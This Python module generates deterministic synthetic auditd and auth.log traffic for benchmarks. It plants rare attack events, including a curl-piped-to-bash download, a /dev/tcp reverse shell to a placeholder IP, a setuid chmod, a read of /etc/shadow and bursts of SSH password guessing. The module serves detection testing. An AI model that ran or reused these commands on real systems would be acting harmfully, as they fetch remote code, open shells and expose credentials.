"""Deterministic logs for the benchmarks: what a busy server writes in a day, with attacks planted now and then.

The same seed gives the same bytes. The audit log is as auditd 3 writes it (ENRICHED: interpreted fields behind 0x1D,
strings quoted when clean and hex when not, PROCTITLE in hex); the auth.log is rsyslog's of a Debian host. Of the
events, 0.05 % are suspicious (a download piped to a shell, a reverse shell, a setuid copy, a read of /etc/shadow, a
burst of wrong passwords); the rest is people, programs and cron at work: of the lines of the auth.log nine in ten are
cron's, as on a server that few people log in to. Names, addresses and numbers vary.
"""

import random
import time
from collections.abc import Callable, Iterator

START = 1_795_260_000.0
SUSPICIOUS = 0.0005
"""Share of the events of the audit log, and of the lines of the auth.log, that belong to an attack."""
_LINES_OF_AN_EVENT, _LINES_OF_A_BURST = 3.2, 60
_USERS = (("root", 0), ("alice", 1000), ("bob", 1001), ("carol", 1002), ("deploy", 1003))
_CLEAN = set(range(0x21, 0x7F)) - {ord('"')}
_COMMANDS: tuple[tuple[str, tuple[str, ...]], ...] = (
    ("/usr/bin/ls", ("ls", "-l", "/srv/data/{n}")),
    ("/usr/bin/git", ("git", "fetch", "--prune", "origin")),
    ("/usr/bin/git", ("git", "rev-parse", "HEAD")),
    ("/usr/bin/python3.11", ("python3", "/opt/app/worker.py", "--shard", "{n}")),
    ("/usr/bin/x86_64-linux-gnu-gcc-12", ("gcc", "-O2", "-c", "src/file{n}.c", "-o", "build/file{n}.o")),
    ("/usr/bin/grep", ("grep", "-r", "TODO: fix {n}", "src/lib")),
    ("/usr/bin/sed", ("sed", "-e", "s/foo {n}/bar/g", "config.ini")),
    ("/usr/bin/date", ("date", "+%Y-%m-%d")),
    ("/usr/bin/dash", ("sh", "-c", "run-parts --report /etc/cron.hourly")),
    ("/usr/bin/run-parts", ("run-parts", "--report", "/etc/cron.hourly")),
    ("/usr/bin/systemctl", ("systemctl", "is-active", "worker-{n}.service")),
    ("/usr/bin/install", ("install", "-m", "644", "out/file{n}.so", "/opt/app/lib")),
    ("/usr/bin/psql", ("psql", "-At", "-c", "select count(*) from jobs where id > {n}")),
    ("/usr/bin/sort", ("sort", "-u", "/srv/task/list-{n}.txt")),
    ("/usr/bin/make", ("make", "-j4", "all")),
    ("/usr/bin/node", ("node", "server/index.js", "--port", "30{n}")),
    ("/usr/bin/sleep", ("sleep", "5")),
    ("/usr/bin/wc", ("wc", "-l", "/srv/task/list-{n}.txt")),
)
_ATTACKS: tuple[tuple[str, tuple[str, ...]], ...] = (
    ("/usr/bin/dash", ("sh", "-c", "curl -fsSL http://198.51.100.80/{n}.sh | bash")),
    ("/usr/bin/bash", ("bash", "-c", "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1")),
    ("/usr/bin/chmod", ("chmod", "4755", "/tmp/.cache/sh{n}")),  # noqa: S108 - a name in a log line
    ("/usr/bin/cat", ("cat", "/etc/shadow")),
)
_WRITTEN = ("/srv/task/list-{n}.txt", "/var/lib/app/state-{n}.db", "build/file{n}.o", "/var/cache/app/{n}.tmp")
_AT_HOME = tuple(
    (user, f"192.0.2.{10 * place + desk}") for place, user in enumerate(("alice", "bob", "carol"), 1) for desk in (1, 2)
)
_UNITS = ("logrotate", "apt-daily", "man-db", "worker", "fstrim")


def encoded(text: str) -> str:
    """A string as the kernel writes it: quoted when clean, else upper-case hex (audit_log_untrustedstring)."""
    raw = text.encode()
    return f'"{text}"' if raw and set(raw) <= _CLEAN else raw.hex().upper()


class AuditLog:
    """Writes the records of one event after the other."""

    def __init__(self, seed: int = 1) -> None:
        self._random = random.Random(seed)  # noqa: S311 - the same log every time is the point
        self._serial = 100_000
        self._at = START
        self._pid = 2_000
        self._shells = {name: (900 + number, uid) for number, (name, uid) in enumerate(_USERS)}
        self._kinds: tuple[Callable[[], str], ...] = (
            *(self._ordinary,) * 9, *(self._write,) * 4, *(self._connect,) * 3, *(self._login,) * 3, self._service,
        )  # fmt: skip

    def event(self) -> str:
        """One event: the lines of its records."""
        if self._random.random() < SUSPICIOUS:
            return self.attack()
        return self._random.choice(self._kinds)()

    def attack(self) -> str:
        """An event that a rule tells of."""
        return self._exec(self._random.choice(_ATTACKS))

    def _next(self) -> str:
        self._serial += 1
        self._at += self._random.random() * 0.02
        return f"msg=audit({self._at:.3f}:{self._serial})"

    def _call(self, head: str, name: str, *, user: str, exe: str, comm: str, pids: tuple[int, int], said: str) -> str:
        pid, ppid = pids
        uid = self._shells[user][1]
        same = "".join(f"{key}={uid} " for key in ("uid", "gid", "euid", "suid", "fsuid", "egid", "sgid", "fsgid"))
        names = " ".join(f'{key}="{user}"' for key in ("UID", "GID", "EUID", "SUID", "FSUID", "EGID", "SGID", "FSGID"))
        return (
            f"type=SYSCALL {head}: arch=c000003e {said} ppid={ppid} pid={pid} auid={uid} {same}tty=pts{uid % 9} "
            f"ses={uid % 97 + 3} comm={encoded(comm[:15])} exe={encoded(exe)} subj=unconfined "
            f'key="watch"\x1dARCH=x86_64 '
            f'SYSCALL={name} AUID="{user}" {names}\n'
        )

    def _path(self, head: str, item: int, name: str, role: str) -> str:
        inode = 131_000 + len(name)
        return (
            f"type=PATH {head}: item={item} name={encoded(name)} inode={inode} dev=fe:00 mode=0100755 ouid=0 ogid=0 "
            f"rdev=00:00 nametype={role} cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 "
            'cap_frootid=0\x1dOUID="root" OGID="root"\n'
        )

    def _title(self, head: str, argv: tuple[str, ...]) -> str:
        return f"type=PROCTITLE {head}: proctitle={chr(0).join(argv).encode()[:128].hex().upper()}\n"

    def _ordinary(self) -> str:
        return self._exec(self._random.choice(_COMMANDS))

    def _exec(self, command: tuple[str, tuple[str, ...]]) -> str:
        exe, template = command
        number = str(self._random.randrange(1000))
        argv = tuple(argument.replace("{n}", number) for argument in template)
        user = self._random.choice(_USERS)[0]
        head = self._next()
        self._pid = self._pid + 1 if self._pid < 60_000 else 2_000
        said = (
            f"syscall=59 success=yes exit=0 a0={self._serial:x} a1=55d1c8a3b300 a2=55d2c8a3b400 a3={self._pid:x} "
            "items=2"
        )
        pids = (self._pid, self._shells[user][0])
        arguments = " ".join(f"a{place}={encoded(argument)}" for place, argument in enumerate(argv))
        return (
            self._call(head, "execve", user=user, exe=exe, comm=argv[0], pids=pids, said=said)
            + f"type=EXECVE {head}: argc={len(argv)} {arguments}\n"
            + f'type=CWD {head}: cwd="/home/{user}/work"\n'
            + self._path(head, 0, exe, "NORMAL")
            + self._path(head, 1, "/lib64/ld-linux-x86-64.so.2", "NORMAL")
            + self._title(head, argv)
        )

    def _write(self) -> str:
        name = self._random.choice(_WRITTEN).replace("{n}", str(self._random.randrange(1000)))
        role = self._random.choice(("CREATE", "NORMAL"))
        head = self._next()
        said = "syscall=257 success=yes exit=5 a0=ffffff9c a1=7ffd3c2a a2=241 a3=1b6 items=2"
        argv = ("python3", "/opt/app/worker.py")
        exe, comm = "/usr/bin/python3.11", "python3"
        return (
            self._call(head, "openat", user="deploy", exe=exe, comm=comm, pids=(950, 1), said=said)
            + f'type=CWD {head}: cwd="/opt/app"\n'
            + self._path(head, 0, name.rsplit("/", 1)[0] + "/", "PARENT")
            + self._path(head, 1, name, role)
            + self._title(head, argv)
        )

    def _connect(self) -> str:
        head = self._next()
        port, last = self._random.choice((443, 5432, 80)), self._random.randrange(1, 250)
        address = f"0200{port:04X}C00002{last:02X}0000000000000000"
        said = "syscall=42 success=yes exit=0 a0=7 a1=7ffc1d8a a2=10 a3=0 items=0"
        return (
            self._call(head, "connect", user="deploy", exe="/usr/bin/node", comm="node", pids=(951, 1), said=said)
            + f"type=SOCKADDR {head}: saddr={address}\x1dSADDR={{ saddr_fam=inet laddr=192.0.2.{last} lport={port} }}\n"
            + self._title(head, ("node", "server/index.js"))
        )

    def _login(self) -> str:
        user, uid = self._random.choice(_USERS[1:4])
        self._pid = self._pid + 1 if self._pid < 60_000 else 2_000
        address = f"192.0.2.{self._random.randrange(1, 250)}"
        session = self._serial % 5000
        lines = ""
        for kind, op in (
            ("USER_AUTH", "PAM:authentication grantors=pam_unix"),
            ("USER_ACCT", "PAM:accounting grantors=pam_permit"),
            ("CRED_ACQ", "PAM:setcred grantors=pam_permit"),
            ("USER_START", "PAM:session_open grantors=pam_unix"),
            ("USER_END", "PAM:session_close grantors=pam_unix"),
        ):
            lines += (
                f"type={kind} {self._next()}: pid={self._pid} uid=0 auid={uid} ses={session} "
                f"subj=unconfined msg='op={op} "
                f'acct="{user}" exe="/usr/sbin/sshd" hostname={address} addr={address} terminal=ssh res=success\''
                f'\x1dUID="root" AUID="{user}"\n'
            )
        return lines

    def _service(self) -> str:
        kind, unit = self._random.choice(("SERVICE_START", "SERVICE_STOP")), self._random.choice(_UNITS)
        return (
            f"type={kind} {self._next()}: pid=1 uid=0 auid=4294967295 ses=4294967295 subj=unconfined msg='unit={unit} "
            'comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=? res=success\''
            '\x1dUID="root" AUID="unset"\n'
        )


class AuthLog:
    """Writes the lines of one thing that happened after the other."""

    def __init__(self, seed: int = 1) -> None:
        self._random = random.Random(seed)  # noqa: S311 - the same log every time is the point
        self._at = START
        self._pid = 2_000
        self._kinds: tuple[Callable[[], str], ...] = (
            *(self._cron,) * 174, *(self._key,) * 6, *(self._sudo,) * 14, *(self._su,) * 4, *(self._typo,) * 2,
        )  # fmt: skip

    def event(self) -> str:
        """What happens next: a few lines."""
        if self._random.random() < SUSPICIOUS * _LINES_OF_AN_EVENT / _LINES_OF_A_BURST:
            return self.burst()
        return self._random.choice(self._kinds)()

    def _head(self, program: str) -> str:
        self._at += self._random.random()
        return f"{time.strftime('%b %e %H:%M:%S', time.gmtime(self._at))} web1 {program}"

    def _next_pid(self) -> int:
        self._pid = self._pid + 1 if self._pid < 60_000 else 2_000
        return self._pid

    def _cron(self) -> str:
        pid, user = self._next_pid(), self._random.choice(("root", "www-data", "deploy"))
        return (
            f"{self._head(f'CRON[{pid}]')}: pam_unix(cron:session): session opened for user {user}(uid=0) by (uid=0)\n"
            f"{self._head(f'CRON[{pid + 1}]')}: ({user}) "
            "CMD (test -x /usr/sbin/anacron || run-parts /etc/cron.hourly)\n"
            f"{self._head(f'CRON[{pid}]')}: pam_unix(cron:session): session closed for user {user}\n"
        )

    def _key(self) -> str:
        pid, (user, host) = self._next_pid(), self._random.choice(_AT_HOME)
        port = self._random.randrange(1024, 65000)
        session = pid % 5000
        return (
            f"{self._head(f'sshd[{pid}]')}: Accepted publickey for {user} from {host} port {port} ssh2: ED25519 "
            f"SHA256:{pid:x}cGxlYXNlIGRvIG5vdCByZWFkIHRoaXMgYXMgYSBrZXk\n"
            f"{self._head(f'sshd[{pid}]')}: pam_unix(sshd:session): session opened for "
            f"user {user}(uid=1000) by (uid=0)\n"
            f"{self._head('systemd-logind[701]')}: New session {session} of user {user}.\n"
            f"{self._head(f'sshd[{pid}]')}: Received disconnect from {host} port {port}:11: disconnected by user\n"
            f"{self._head(f'sshd[{pid}]')}: Disconnected from user {user} {host} port {port}\n"
            f"{self._head(f'sshd[{pid}]')}: pam_unix(sshd:session): session closed for user {user}\n"
            f"{self._head('systemd-logind[701]')}: Session {session} logged out. Waiting for processes to exit.\n"
            f"{self._head('systemd-logind[701]')}: Removed session {session}.\n"
        )

    def _sudo(self) -> str:
        user, unit = self._random.choice(("alice", "deploy")), self._random.choice(_UNITS)
        return (
            f"{self._head('sudo')}: {user:>8} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; "
            f"COMMAND=/usr/bin/systemctl restart {unit}\n"
            f"{self._head('sudo')}: pam_unix(sudo:session): session opened for user root(uid=0) by {user}(uid=1000)\n"
            f"{self._head('sudo')}: pam_unix(sudo:session): session closed for user root\n"
        )

    def _su(self) -> str:
        pid = self._next_pid()
        return (
            f"{self._head(f'su[{pid}]')}: (to postgres) root on none\n"
            f"{self._head(f'su[{pid}]')}: pam_unix(su:session): session opened for user postgres(uid=110) by (uid=0)\n"
            f"{self._head(f'su[{pid}]')}: pam_unix(su:session): session closed for user postgres\n"
        )

    def _typo(self) -> str:
        pid, (user, host) = self._next_pid(), self._random.choice(_AT_HOME)
        port = self._random.randrange(1024, 65000)
        return (
            f"{self._head(f'sshd[{pid}]')}: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh "
            f"ruser= rhost={host}  user={user}\n"
            f"{self._head(f'sshd[{pid}]')}: Failed password for {user} from {host} port {port} ssh2\n"
            f"{self._head(f'sshd[{pid}]')}: Accepted password for {user} from {host} port {port} ssh2\n"
        )

    def burst(self) -> str:
        """Wrong passwords from one address."""
        host = f"203.0.113.{self._random.randrange(1, 250)}"
        lines = ""
        for number in range(_LINES_OF_A_BURST):
            pid, name = self._next_pid(), self._random.choice(("root", "admin", "oracle", "test", "ubuntu"))
            who = name if name == "root" else f"invalid user {name}"
            lines += (
                f"{self._head(f'sshd[{pid}]')}: Failed password for {who} from {host} port {40_000 + number} ssh2\n"
            )
        return lines


def audit_log(lines: int, seed: int = 1) -> Iterator[str]:
    """Events until there are so many lines, each event whole."""
    return _until(AuditLog(seed).event, lines)


def auth_log(lines: int, seed: int = 1) -> Iterator[str]:
    """Lines of an auth.log until there are so many."""
    return _until(AuthLog(seed).event, lines)


def attacked_audit_log(lines: int, seed: int = 1) -> Iterator[str]:
    """Nothing but attacks: the worst that a log can be to its reader."""
    return _until(AuditLog(seed).attack, lines)


def attacked_auth_log(lines: int, seed: int = 1) -> Iterator[str]:
    """Nothing but guessed passwords, 60 from an address at a time."""
    return _until(AuthLog(seed).burst, lines)


def _until(event: Callable[[], str], lines: int) -> Iterator[str]:
    while lines > 0:
        text = event()
        lines -= text.count("\n")
        yield text
